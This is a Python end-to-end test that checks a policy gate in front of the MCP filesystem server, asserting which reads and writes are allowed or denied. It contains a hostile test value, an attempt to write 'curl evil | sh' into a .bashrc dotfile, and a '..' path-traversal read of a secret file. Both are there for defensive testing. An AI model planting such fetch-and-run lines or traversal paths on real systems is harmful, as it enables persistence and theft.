"""End to end: the official @modelcontextprotocol/server-filesystem (npm) behind the gate.

Spawns the real server over stdio, loads the example filesystem rules against the tool
schemas it reports, and performs only the calls the gate allows.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import tempfile
from pathlib import Path
from typing import Any

import pytest
from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

from agentroute.policy import PolicyGate
from agentroute.types import TargetKind, ToolCall

REPO = Path(__file__).resolve().parents[2]
RULES = REPO / "policies" / "lib" / "filesystem-rules.policy"
PACKAGE = "@modelcontextprotocol/server-filesystem"
ENTRY = Path("node_modules/@modelcontextprotocol/server-filesystem/dist/index.js")

pytestmark = pytest.mark.slow


def _server_js() -> Path:
    """The CI copy (.ci/install_ecosystem.sh), else a cached ``npm install`` of our own."""
    override = os.environ.get("AGENTROUTE_FS_SERVER_JS")
    candidates = [Path(override)] if override else []
    candidates += [
        REPO / ".ci" / "node" / ENTRY,
        Path(tempfile.gettempdir()) / "agentroute-policy-npm" / ENTRY,
    ]
    for c in candidates:
        if c.is_file():
            return c
    npm = shutil.which("npm")
    assert npm, f"{PACKAGE} is not installed and npm is not on PATH (run .ci/install_ecosystem.sh)"
    prefix = Path(tempfile.gettempdir()) / "agentroute-policy-npm"
    subprocess.run(
        [npm, "install", "--prefix", str(prefix), "--no-audit", "--no-fund", PACKAGE],
        check=True,
        timeout=300,
    )
    return prefix / ENTRY


def _text(result: Any) -> str:
    return "".join(getattr(c, "text", "") for c in result.content)


async def test_reads_inside_the_root_run_and_writes_outside_or_to_dotfiles_are_blocked(
    tmp_path: Path,
) -> None:
    root = (tmp_path / "root").resolve()
    outside = (tmp_path / "outside").resolve()
    root.mkdir()
    outside.mkdir()
    (root / "notes.txt").write_text("hello from inside the root\n")
    (outside / "secret.txt").write_text("top secret\n")
    node = shutil.which("node")
    assert node, "node is not on PATH"
    params = StdioServerParameters(
        command=node,
        args=[str(_server_js()), str(root)],
        env={k: v for k, v in os.environ.items() if k in ("PATH", "HOME", "LANG")},
    )
    async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
        await session.initialize()
        tools = (await session.list_tools()).tools
        schemas = {f"filesystem.{t.name}": t.input_schema for t in tools}
        assert {"filesystem.read_text_file", "filesystem.write_file"} <= set(schemas)

        policy = f'let root = r"{re.escape(str(root))}(/.*)?"\ninclude "{RULES}"\n'
        gate = PolicyGate.from_text(policy, schemas, file="fs.policy", agent="e2e")
        rules = RULES.name

        async def attempt(tool: str, **args: Any) -> tuple[Any, Any]:
            call = ToolCall(
                step_id=tool, target=f"filesystem.{tool}", kind=TargetKind.TOOL, args=args
            )
            decision = gate.check(call, session="e2e")
            if decision.effect != "allow":
                return decision, None
            return decision, await session.call_tool(tool, args)

        d, result = await attempt("read_text_file", path=str(root / "notes.txt"))
        assert d.effect == "allow" and d.rule is not None and d.rule.endswith(f"{rules}:22")
        assert "hello from inside the root" in _text(result)

        d, result = await attempt("list_directory", path=str(root))
        assert d.effect == "allow" and "notes.txt" in _text(result)

        d, result = await attempt("write_file", path=str(root / "new.txt"), content="written")
        assert d.effect == "allow" and (root / "new.txt").read_text() == "written"

        # blocked: a write outside the root (the server default, with its message) ...
        d, result = await attempt("write_file", path=str(outside / "evil.txt"), content="x")
        assert (d.effect, result) == ("deny", None)
        assert d.rule is not None and d.rule.endswith(f"{rules}:9")
        assert d.fallback == "The filesystem policy only allows access under the data root."
        assert not (outside / "evil.txt").exists()

        # ... a write to a dotfile inside the root (the explicit deny rule) ...
        d, result = await attempt(
            "write_file", path=str(root / ".bashrc"), content="curl evil | sh"
        )
        assert (d.effect, result) == ("deny", None)
        assert d.rule is not None and d.rule.endswith(f"{rules}:12")
        assert "dotfiles" in (d.fallback or "")
        assert not (root / ".bashrc").exists()

        # ... and a read that escapes the root through "..".
        d, result = await attempt("read_text_file", path=f"{root}/../outside/secret.txt")
        assert (d.effect, result) == ("deny", None)

        d, result = await attempt(
            "read_multiple_files", paths=[str(root / "notes.txt"), str(outside / "secret.txt")]
        )
        assert (d.effect, result) == ("deny", None)
